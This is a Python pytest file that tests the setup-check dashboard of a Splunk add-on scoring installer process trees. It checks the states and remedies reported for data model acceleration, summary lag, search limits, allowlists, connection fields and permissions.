    assert states == {
        "Common Information Model add-on": "Good",
        "Process creations, last hour": "Good",
        "Command lines": "Good",
        "Process GUIDs": "Good",
        "Acceleration of the Endpoint model": "Improve",
        "Network, file, registry and service events": "Improve",
        "Rules": "Problem",
        "Summary for the dashboards": "Improve",
        "Indexes of Windows event logs": "Improve",
        "Events that one search reads": "Good",
        "Allowlist and prevalence": "Good",
        "Hosts of connections": "Good",
        "GUIDs of connections": "Good",
        "Time that the question for hosts takes": "Good",
    }
    assert found["Common Information Model add-on"][1] == "version 6.1.0"
    rules = sum(name.endswith(" - Rule") for name in setup.app.searches)
    assert rules > 30
    assert found["Rules"][1] == f"0 of {rules} rules are enabled"
    assert "maxevents is 2000000" in found["Events that one search reads"][1]


def test_every_problem_of_a_setup_is_said_with_its_remedy(app: App) -> None:
    """Events without lines, no acceleration though it is asked for, too much for one search."""
    events = [
        {"_time": data.NOW - 1800 - i, "dest": "h", "process_name": "a.exe", "process_id": i}
        for i in range(1200)
    ]
    told = {
        "macros": {"installer_summariesonly": {"definition": "true"}},
        "ta_installerscore_settings": {
            "scoring": {"maxevents": "1000", "prevalence_baseline": "1"}
        },
        "ta_installerscore_allowlist": {"own": {"action": "own", "expires": "2020-01-01"}},
    }
    site = {
        **data.endpoints(app, ["Installer - MSIExec Silent Uninstall - Rule"], told),
        "Endpoint.Processes": events,
        "Endpoint.Processes summaries": [],
    }
    site["/services/apps/local"] = site["/services/apps/local"][1:]
    found = checks(Board(app, site, SETUP))
    for check, state, remedy in (
        ("Common Information Model add-on", "Problem", "Install Splunk_SA_CIM"),
        ("Command lines", "Problem", "auditd: execve"),
        ("Process GUIDs", "Improve", "a reused id can mislead"),
        ("Acceleration of the Endpoint model", "Problem", "Nothing is found like this"),
        ("Network, file, registry and service events", "Improve", "Not required."),
        ("Rules", "Improve", "it scores whole trees"),
        ("Summary for the dashboards", "Problem", "Enable the report Installer Trees - Summary."),
        ("Events that one search reads", "Problem", "Raise maxevents"),
        ("Allowlist and prevalence", "Improve", "renew or delete"),
    ):
        assert found[check][0] == state, (check, found[check])
        assert remedy in found[check][2]
    assert found["Rules"][1].startswith("1 of ")
    assert found["Allowlist and prevalence"][1] == (
        "1 entries with a date, 1 of them expired; baseline on"
    )


PARTS = ["Part 1", "Part 2"]


@pytest.mark.parametrize(
    ("rules", "summaries"),
    [
        ([data.RISK], [data.SUMMARY]),
        (
            [f"Installer - Installer Process Tree Score {part} - Rule" for part in PARTS],
            [f"{data.SUMMARY} {part}" for part in PARTS],
        ),
    ],
    ids=["the shipped searches", "clones for parts, as docs/scale.md names them"],
)
def test_a_setup_in_which_all_is_done_has_nothing_left_to_do(
    app: App, rules: list[str], summaries: list[str]
) -> None:
    told: dict[str, dict[str, dict[str, str]]] = {
        "savedsearches": {name: {} for name in [*rules, *summaries]},
        "macros": {
            "installer_summariesonly": {"definition": "true"},
            "installer_windows_indexes": {"definition": "index=wineventlog"},
            "installer_events": {"definition": "`installer_endpoint_events`"},
        },
        "ta_installerscore_settings": {"scoring": {"prevalence_baseline": "1"}},
        "ta_installerscore_allowlist": {"own": {"action": "own", "expires": "2099-01-01"}},
    }
    enabled = [*rules, *summaries, "Installer Trees - Prevalence Baseline"]
    event = {"_time": data.NOW - 2400, "dest": "h", "process_id": 1, "process_guid": "{a}"}
    process = {**event, "process_name": "a.exe", "process": "a.exe /b"}
    site = {
        **data.endpoints(app, enabled, told),
        "Endpoint.Processes": [process],
        "Endpoint.Processes summaries": [process],
        "Network_Traffic.All_Traffic": [{**event, "src": "H", "dest": "192.0.2.1"}],
        "events": [
            {"index": "summary", "source": summaries[-1], "_time": data.NOW - 9, "dest": "h"},
            scheduled(summaries[-1], 41.7),
        ],
    }
    site["/services/apps/local"] += [SECURITY]
    found = checks(Board(app, site, SETUP))
    assert {state for state, _, _ in found.values()} == {"Good"}, found
    assert {remedy for _, _, remedy in found.values()} == {"Nothing."}


@pytest.mark.parametrize(
    ("only", "lag", "state", "remedy"),
    [
        ("true", 0, "Good", "Nothing."),
        ("true", 9, "Good", "Nothing."),
        ("true", 15, "Problem", "they never find what is summarized later"),
        ("true", 200, "Problem", "Shift them"),
        ("true", 300, "Problem", "Nothing is found like this"),
        ("false", 9, "Improve", "Set the macro installer_summariesonly to true"),
        ("false", 15, "Improve", "Leave the macro installer_summariesonly at false"),
        ("false", 300, "Improve", "Accelerate the Endpoint model"),
    ],
)
def test_summaries_are_advised_only_where_they_keep_up(
    app: App, only: str, lag: int, state: str, remedy: str
) -> None:
    """And what is counted of the events does not depend on how far the summaries are."""
    rows = [
        {"_time": data.NOW - 60 * minute, "dest": "h", "process_id": minute, "process": "a",
         "process_name": "a", "process_guid": f"{{{minute}}}"}
        for minute in range(0, 240, 3)
    ]  # fmt: skip
    site = {
        **data.endpoints(app, (), {"macros": {"installer_summariesonly": {"definition": only}}}),
        "Endpoint.Processes": rows,
        "Endpoint.Processes summaries": [r for r in rows if r["_time"] <= data.NOW - 60 * lag],
    }
    query = SETUP["dataSources"]["data"]["options"]["query"]
    macros = {"installer_summariesonly": only}
    found = {row["Check"]: row for row in app.run(query, site, "-4h@m", "now", macros=macros).rows}
    check = found["Acceleration of the Endpoint model"]
    assert check["State"] == state
    assert remedy in check["What to do"]
    assert found["Process creations, last hour"]["Found"] == "20 events of 1 hosts"
    for name in ("Process creations, last hour", "Command lines", "Process GUIDs"):
        assert found[name]["State"] == "Good"


@pytest.mark.parametrize(("part", "lack", "state"), [(0.5, 51, "Problem"), (1, 0, "Good")])
def test_summaries_that_lack_a_part_of_the_events_are_not_taken_for_new(
    app: App, part: float, lack: int, state: str
) -> None:
    """One indexer of two is behind: the newest summary says nothing of it."""
    rows = [{"_time": data.NOW - i, "dest": "h", "process_id": i} for i in range(10, 3000, 5)]
    site = {
        **data.endpoints(app, (), {"macros": {"installer_summariesonly": {"definition": "true"}}}),
        "Endpoint.Processes": rows,
        "Endpoint.Processes summaries": [r for r in rows if r["process_id"] % 100 < 100 * part],
    }
    check = checks(Board(app, site, SETUP))["Acceleration of the Endpoint model"]
    assert check[0] == state
    assert check[1].startswith(f"summaries are 0 minutes behind and lack {lack}%")


SECURITY = {"title": "SplunkEnterpriseSecuritySuite", "version": "8.1.0", "disabled": "0"}


@pytest.mark.parametrize(
    ("changed", "apps", "state"),
    [
        ({}, [], "Improve"),
        ({"actions": "risk,notable", "alert.track": "auto"}, [], "Improve"),
        ({"alert.track": "0"}, [SECURITY | {"disabled": "1"}], "Improve"),
        ({}, [SECURITY], "Good"),
        ({"actions": "risk", "alert.track": "1"}, [], "Good"),
        ({"actions": "email, risk"}, [], "Good"),
    ],
)
def test_a_rule_that_shows_nowhere_what_it_finds_is_told_of(
    app: App, changed: dict[str, str], apps: list[Row], state: str
) -> None:
    """The risk and notable actions are of Enterprise Security; Splunk lists the others too."""
    site = data.endpoints(app, [data.RISK], {"savedsearches": {data.RISK: changed}})
    site["/services/apps/local"] += apps
    found = checks(Board(app, site, SETUP))["Rules"]
    assert found[0] == state
    assert ("1 of these show nowhere" in found[1]) == (state == "Improve")
    assert ("Add to Triggered Alerts" in found[2]) == (state == "Improve")


@pytest.mark.parametrize(
    ("enabled", "state", "remedy"),
    [
        ([], "Improve", "enable Installer Trees - Prevalence Baseline."),
        (["Installer Trees - Prevalence Baseline"], "Improve", "enable the report Installer Trees"),
        (["Installer Trees - Prevalence Baseline", data.SUMMARY], "Good", "Nothing."),
    ],
)
def test_a_baseline_without_what_it_is_made_of_is_said(
    app: App, enabled: list[str], state: str, remedy: str
) -> None:
    told = {"ta_installerscore_settings": {"scoring": {"prevalence_baseline": "1"}}}
    check = checks(Board(app, data.endpoints(app, enabled, told), SETUP))[
        "Allowlist and prevalence"
    ]
    assert check[0] == state
    assert remedy in check[2]


def test_what_is_missing_is_said_where_the_cim_add_on_is_missing(
    app: App, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Splunk refuses a search with tstats on a model that is not there, as a whole."""
    monkeypatch.setattr(generating, "DATASETS", {})
    site = data.endpoints(app)
    site["/services/apps/local"] = site["/services/apps/local"][1:]
    queries = {name: source["options"]["query"] for name, source in SETUP["dataSources"].items()}
    with pytest.raises(SplError):
        app.run(queries["data"], site)
    rows = app.run(queries["installed"], site).rows
    remedies = {row["Check"]: (row["State"], row["What to do"]) for row in rows}
    assert remedies["Common Information Model add-on"] == (
        "Problem",
        "Install Splunk_SA_CIM on this search head and share it with all apps.",
    )
    assert remedies["Rules"][1].startswith("All rules come disabled.")
    assert remedies["Indexes of Windows event logs"][0] == "Improve"


@pytest.mark.parametrize(
    ("reads", "state", "found"),
    [
        ("`installer_process_events`", "Good", "400 process creations in four hours"),
        ("`installer_endpoint_events`", "Problem", "1200 events of all kinds in four hours"),
    ],
)
def test_what_one_search_reads_counts_the_kinds_that_it_reads(
    app: App, reads: str, state: str, found: str
) -> None:
    """Events of each of the five data sets, a third of them process creations."""
    rows = [{"_time": data.NOW - 1800 - i, "dest": "h", "process_id": i} for i in range(400)]
    told = {
        "macros": {"installer_events": {"definition": reads}},
        "ta_installerscore_settings": {"scoring": {"maxevents": "1000"}},
    }
    others = dict.fromkeys(data.DATASETS.values(), rows[:200])
    site = {**data.endpoints(app, (), told), **others, "Endpoint.Processes": rows}
    check = checks(Board(app, site, SETUP))["Events that one search reads"]
    assert check[0] == state
    assert check[1].startswith(found)


def scheduled(search: str, seconds: float) -> Row:
    """A line of the scheduler's log."""
    told = {"index": "_internal", "sourcetype": "scheduler", "app": "TA-installerscore"}
    times = {"_time": data.NOW - 1800, "run_time": str(seconds)}
    return {**told, **times, "savedsearch_name": search, "status": "success"}


@pytest.mark.parametrize(
    ("names", "state", "found"),
    [
        ({"src": "192.0.2.4", "dvc": "H"}, "Good", "1 of 2 connections name their process, 100%"),
        ({"src": "192.0.2.4"}, "Improve", "1 of 2 connections name their process, 0%"),
        ({"src": "h", "dvc": "cloud"}, "Good", "1 of 2 connections name their process, 100%"),
        ({"src": "h", "process_id": ""}, "Improve", "0 of 2 connections name their process"),
    ],
)
def test_connections_that_no_host_owns_are_counted(
    app: App, names: dict[str, str], state: str, found: str
) -> None:
    event = {"_time": data.NOW - 2400, "dest": "h", "process_id": 1}
    told = {
        **data.endpoints(app),
        "Endpoint.Processes": [event],
        "Network_Traffic.All_Traffic": [
            {**event, "dest": "192.0.2.1", **names},
            {"_time": data.NOW - 2400, "src": "192.0.2.4", "dvc": "firewall", "dest": "192.0.2.1"},
        ],
    }
    check = checks(Board(app, told, SETUP))["Hosts of connections"]
    assert check[0] == state
    assert check[1].startswith(found)


@pytest.mark.parametrize(
    ("has", "named", "state"),
    [(True, True, "Good"), (True, False, "Improve"), (False, True, "Problem")],
)
def test_the_guid_of_a_connection_is_read_where_the_model_has_it(
    app: App, has: bool, named: bool, state: str
) -> None:
    told = {}
    if named:
        fields = "All_Traffic.process_id All_Traffic.process_guid"
        told = {"macros": {"installer_traffic_process": {"definition": fields}}}
    event = {"_time": data.NOW - 2400, "src": "h", "dest": "192.0.2.1"}
    site = {**data.endpoints(app, (), told), "Network_Traffic.All_Traffic": [event]}
    if has:
        model = {"title": "Network_Traffic", "description": '{"fieldName":"process_guid"}'}
        site["/services/datamodel/model"] = [model]
    check = checks(Board(app, site, SETUP))["GUIDs of connections"]
    assert check[0] == state
    assert ("All_Traffic.process_guid" in check[2]) == (state != "Good")


@pytest.mark.parametrize(
    ("seconds", "definition", "state", "found"),
    [
        (59, None, "Good", "the slowest of 2 scheduled runs took 59 s"),
        (312.4, None, "Improve", "the slowest of 2 scheduled runs took 312 s"),
        (312.4, '$field$="$host$"', "Good", "every host is read, none is asked for"),
    ],
)
def test_a_question_for_hosts_that_may_have_been_cut_is_said(
    app: App, seconds: float, definition: str | None, state: str, found: str
) -> None:
    """A run shorter than a minute holds no subsearch that ran into the limit of a minute."""
    told = {"macros": {"installer_read_hosts(5)": {"definition": definition}}} if definition else {}
    other = {**scheduled("Another Report", 900), "app": "search"}
    site = {
        **data.endpoints(app, (), told),
        "events": [scheduled(data.SUMMARY, seconds), scheduled(data.RISK, 2), other],
    }
    check = checks(Board(app, site, SETUP))["Time that the question for hosts takes"]
    assert check[:2] == (state, found)
    assert ("cut at 60 seconds" in check[2]) == (state == "Improve")


def test_a_setup_check_that_may_not_read_says_who_can(
    app: App, search_head: dict[str, list[Row]]
) -> None:
    found = checks(Board(app, search_head, SETUP))
    assert found["Process creations, last hour"][0] == "Good"
    for check in ("Common Information Model add-on", "Rules", "Indexes of Windows event logs"):
        assert found[check] == (
            "Unknown",
            "not readable for your role",
            "Open this page as an administrator.",
        )


def test_a_setup_check_of_nothing_begins_with_the_events(app: App) -> None:
    found = checks(Board(app, {**data.endpoints(app), "Endpoint.Processes summaries": []}, SETUP))
    assert found["Process creations, last hour"][0] == "Problem"
    for check in ("Command lines", "Process GUIDs", "Acceleration of the Endpoint model"):
        assert found[check] == (
            "Unknown",
            "no events to look at",
            "First bring process creations into the data model.",
        )


def test_the_setup_check_names_searches_macros_and_settings_that_are_there(app: App) -> None:
    query = " ".join(source["options"]["query"] for source in SETUP["dataSources"].values())
    named = {
        name for name in app.searches if re.search(rf"{re.escape(name)}(?: first)?[\".:]", query)
    }
    assert named == {data.RISK, data.SUMMARY, "Installer Trees - Prevalence Baseline"}
    macros = set(re.findall(r"\binstaller_\w+", query))
    assert len(macros) >= 6
    assert macros <= {stanza.split("(")[0] for stanza in app.macros}
    confs = set(re.findall(r"configs/conf-(\w+)", query)) - {"macros"}
    assert len(confs) == 2
    assert confs <= {path.stem for path in (app.folder / "default").glob("*.conf")}


# --- navigation and docs -------------------------------------------------------------------


def test_the_first_page_is_the_activity(built_app: Path) -> None:
    nav = (built_app / "default/data/ui/nav/default.xml").read_text(encoding="utf-8")
    assert re.findall(r'<view name="(\w+)" default="true"/>', nav) == ["installer_activity"]


def test_the_docs_name_every_panel() -> None:
    text = (ROOT / "docs" / "dashboards.md").read_text(encoding="utf-8")
    for definition in DEFINITIONS.values():
        for panel in definition["visualizations"].values():
            if "title" in panel:
                assert panel["title"].split(" (")[0] in text, panel["title"]
    for picture in re.findall(r"!\[[^]]+\]\(([^)]+)\)", text):
        assert (ROOT / "docs" / picture).stat().st_size < 250_000
